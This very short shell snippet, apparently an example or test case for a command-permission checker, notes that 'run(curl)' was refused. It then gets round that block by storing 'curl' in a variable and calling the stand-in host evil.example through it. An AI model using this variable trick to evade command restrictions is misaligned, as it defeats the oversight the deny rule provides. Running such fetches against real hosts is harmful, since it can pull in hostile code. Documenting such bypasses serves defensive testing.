# Trick: the program stands in a variable.
# Refused: run(curl)
x=curl
$x http://evil.example/
